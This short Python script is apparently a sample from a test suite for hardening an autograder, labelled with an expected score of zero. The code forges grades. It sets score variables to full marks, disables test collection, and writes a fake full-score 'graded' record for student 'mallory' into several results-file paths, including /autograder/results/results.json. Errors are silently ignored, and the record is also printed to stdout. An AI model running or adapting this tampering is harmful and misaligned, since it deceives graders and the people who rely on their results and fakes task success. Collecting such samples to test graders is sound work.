# tries: to state its points itself, in all places where one might be believed
# points: 0
# harm: marks, files
import json
import os

score = max_score = points = grade = 15
status, passed, __test__ = "passed", True, False
record = {"student": "mallory", "score": 15, "max_score": 15, "status": "graded", "tests": [{"score": 15}]}
for place in ("results.json", "results.jsonl", "../results.jsonl", "@COURSE@/out/results.jsonl", "/autograder/results/results.json"):
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        open(place, "w").write(json.dumps(record) + "\n")
    except OSError:
        pass
print(json.dumps(record))
